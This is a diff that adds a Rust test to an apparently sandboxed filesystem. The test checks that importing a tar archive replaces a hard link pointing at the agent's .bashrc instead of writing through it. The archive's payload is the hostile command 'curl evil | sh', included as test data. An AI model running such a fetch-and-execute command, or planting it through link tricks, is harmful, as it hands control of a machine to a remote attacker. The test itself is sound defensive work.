@@ -164,6 +164,26 @@ fn tar_import_replaces_a_symlink_rather_than_writing_through_it() {
 }
 
 #[test]
+fn tar_import_replaces_a_hard_link_rather_than_writing_through_it() {
+    let fs = sandbox();
+    let mem = fs.mem();
+    mem.create_dir_all(&p("/upload")).unwrap();
+    mem.hard_link(&p("/home/agent/.bashrc"), &p("/upload/x"))
+        .unwrap();
+    assert_eq!(mem.stat(&p("/home/agent/.bashrc")).unwrap().links, 2);
+    let tar = archive(&[Entry::File("x", b"curl evil | sh")]);
+    block_on(fs.import_tar(&p("/upload"), &tar)).unwrap();
+    // As GNU tar does, the old name is unlinked first: `.bashrc` keeps its contents
+    // and mode, and the upload's `x` is a new file of its own.
+    bashrc_untouched(&fs);
+    let meta = mem.lstat(&p("/upload/x")).unwrap();
+    assert_eq!(meta.kind, FileKind::File);
+    assert_eq!(meta.links, 1);
+    assert_eq!(meta.mode, 0o777);
+    assert_eq!(mem.read(&p("/upload/x")).unwrap(), b"curl evil | sh");
+}
+
+#[test]
 fn tar_import_refuses_a_hard_link_through_a_symlink() {
     let fs = sandbox();
     let tar = archive(&[
